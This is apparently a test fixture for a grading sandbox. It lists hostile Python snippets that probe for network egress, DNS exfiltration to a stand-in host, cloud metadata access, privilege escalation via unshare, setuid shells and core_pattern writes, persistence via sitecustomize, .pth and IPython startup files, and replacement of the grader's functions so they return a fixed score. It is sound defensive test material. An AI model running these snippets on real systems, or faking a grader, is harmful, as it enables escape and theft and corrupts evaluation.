"""Items 24 and 32: the network, and files that would be taken for somebody else's."""
# ruff: noqa: E501  (attacks are kept as somebody would type them)

from tests.grading.hostile.entry import Entry

FAMILY = (
    Entry("tcp", (24,), "connects to the world, to this machine and to the cloud's metadata", code="""
        import socket
        for address in (("1.1.1.1", 53), ("169.254.169.254", 80), ("127.0.0.1", 22), ("127.0.0.1", 5432)):
            try:
                socket.create_connection(address, timeout=2)
                print("CONNECTED", address)
            except OSError as error:
                print("tcp:", type(error).__name__)
        """, shows="tcp:"),
    Entry("dns", (24,), "carries something out in a name that it looks up", code="""
        import socket
        try:
            print("CONNECTED", socket.getaddrinfo("token.example.org", 80))
        except OSError as error:
            print("dns:", type(error).__name__)
        """, shows="dns:"),
    Entry("http", (24,), "fetches a page, as pip and as curl do", code="""
        import subprocess, urllib.request
        try:
            urllib.request.urlopen("http://127.0.0.1:8888/api", timeout=2)
            print("CONNECTED")
        except OSError as error:
            print("http:", type(error).__name__)
        for line in ("curl -m 2 http://169.254.169.254/", "python -m pip install --retries 0 nothing-here"):
            print(subprocess.run(["bash", "-c", line], capture_output=True).returncode != 0)
        """, shows="http:", seconds=30),
    Entry("listen", (24,), "listens, so that an accomplice may come in", code="""
        import socket
        for family, address in ((socket.AF_INET, ("0.0.0.0", 48763)), (socket.AF_INET6, ("::", 48763))):
            try:
                s = socket.socket(family)
                s.bind(address)
                s.listen()
                print("LISTENING")
            except OSError as error:
                print("listen:", error.strerror)
        """, shows="listen:"),
    Entry("other-sockets", (24,), "tries raw, packet, netlink, vsock and Bluetooth sockets", code="""
        import socket
        made = []
        for family in range(2, 46):
            for kind in (1, 2, 3, 5):
                try:
                    made.append((family, kind, socket.socket(family, kind)))
                except OSError:
                    pass
        print("sockets:", made)
        """, shows="sockets: []"),
    Entry("new-namespace", (24, 25), "makes namespaces of its own to become root in", code="""
        import ctypes, os, subprocess
        libc = ctypes.CDLL(None, use_errno=True)
        for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x8000000):
            if libc.unshare(flag) == 0:
                print("UNSHARED", hex(flag))
        if libc.mount(b"none", b"/tmp", b"tmpfs", 0, None) == 0 or libc.chroot(b"/tmp") == 0:
            print("MOUNTED")
        print(subprocess.run(["bash", "-c", "unshare -Ur id; sudo -n id; su -c id </dev/null; mount"],
                             capture_output=True, text=True).stdout[:200])
        for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper"):
            try:
                open(path, "w").write("|/tmp/x")
                print("WROTE", path)
            except OSError:
                pass
        print("rights:", os.getuid() != 0)
        """, score=4.0, shows="rights: True"),
    Entry("set-uid", (24, 25), "makes a program that runs as its owner, and a device", code="""
        import os, shutil, stat
        shutil.copy("/bin/sh", "/tmp/sh")
        os.chmod("/tmp/sh", 0o6755)
        for mode, device in ((stat.S_IFBLK, os.makedev(8, 0)), (stat.S_IFCHR, os.makedev(1, 1))):
            try:
                os.mknod(f"/tmp/d{device}", mode | 0o666, device)
                print("MADE", device)
            except OSError as error:
                print("device:", error.strerror)
        """, shows="device:"),
    Entry("write-everywhere", (12, 22, 32), "leaves a file in every folder that it can", code="""
        import os
        left = []
        for place in ("/", "/usr", "/etc", "/var/tmp", "/root", "/home", os.path.expanduser("~"), "@WORLD@",
                      "@REPOSITORY@", "@REPOSITORY@/gnn_lib", "@REPOSITORY@/gnn_lib/exercises", "/dev/shm", "/tmp",
                      os.path.dirname(os.__file__), *__import__("sys").path):
            try:
                open(os.path.join(place, "hostile-was-here"), "w").close()
                left.append(place)
            except OSError:
                pass
        print("left in:", left)
        """, shows="left in:"),
    Entry("library-changed", (32,), "changes the library for those who come after", code="""
        import gnn_lib.exercises.compare as victim, torch, os
        for path in (victim.__file__, torch.__file__, os.__file__):
            try:
                os.chmod(path, 0o777)
                open(path, "a").write("# hostile-was-here")
                print("CHANGED", path)
            except OSError as error:
                print("library:", error.strerror)
        """, shows="library:"),
    Entry("shadow-numpy", (32,), "puts a numpy.py and a torch.py of its own beside the notebook", code="""
        import pathlib, sys
        for name in ("numpy", "torch", "random", "json", "gnn_lib"):
            pathlib.Path(f"{name}.py").write_text("raise SystemExit('hostile')")
        sys.path.insert(0, "")
        for name in [n for n in sys.modules if n == "json" or n.startswith("json.")]:
            del sys.modules[name]
        """, stock_safe=True),
    Entry("sitecustomize", (32,), "lets every Python that starts here run its own lines", code="""
        import os, pathlib, site, sys
        lines = "open('@WORLD@/hostile-was-here', 'w').close()"
        for place in (*site.getsitepackages(), site.getusersitepackages(), ".", os.path.expanduser("~")):
            for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "conftest.py"):
                try:
                    pathlib.Path(place).mkdir(parents=True, exist_ok=True)
                    pathlib.Path(place, name).write_text(lines if name[-1] == "y" else f"import os; {lines}")
                except OSError:
                    pass
        print("customised")
        """, shows="customised"),
    Entry("ipython-startup", (32,), "lets the next kernel start with its lines", code="""
        import os, pathlib
        for home in (os.path.expanduser("~"), os.environ.get("IPYTHONDIR", ""), "/" + "root/.ipython", "@WORLD@"):
            try:
                folder = pathlib.Path(home, "profile_default", "startup")
                folder.mkdir(parents=True, exist_ok=True)
                (folder / "00.py").write_text("check = lambda *a, **k: 3.0")
            except OSError:
                pass
        print("started up")
        """, shows="started up"),
    Entry("modules-replaced", (32, 14), "replaces the course's modules by its own", code="""
        import sys, types
        for name in [n for n in sys.modules if n.startswith("gnn_lib")]:
            fake = types.ModuleType(name)
            fake.__getattr__ = lambda attribute: (lambda *a, **k: 3.0)
            sys.modules[name] = fake
        """, score=3.0, stock_safe=True),
)  # fmt: skip
